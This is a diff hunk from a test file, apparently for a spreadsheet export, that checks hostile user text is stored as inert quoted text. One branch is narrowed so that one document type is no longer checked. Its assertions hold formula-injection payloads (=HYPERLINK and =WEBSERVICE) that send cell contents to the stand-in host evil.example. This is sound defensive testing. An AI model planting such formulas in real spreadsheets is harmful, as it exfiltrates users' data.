@@ -180,7 +180,7 @@ def test_xlsx_holds_every_user_text_as_text(hostile, jenis):
                         assert c.quotePrefix, (ws.title, c.coordinate, c.value)
     # the payloads are there, as plain text, in the subtitle (a merged range) and the cells
     assert any(v.startswith('=HYPERLINK("http://evil.example/?"&A5,"Klik")') for v in texts)
-    if jenis in ("matriks", "renstra", "iku", "pk"):
+    if jenis in ("matriks", "renstra", "iku"):  # the outcome (the Tujuan) is no PK row
         assert '=WEBSERVICE("http://evil.example/"&A1)' in texts
 
 
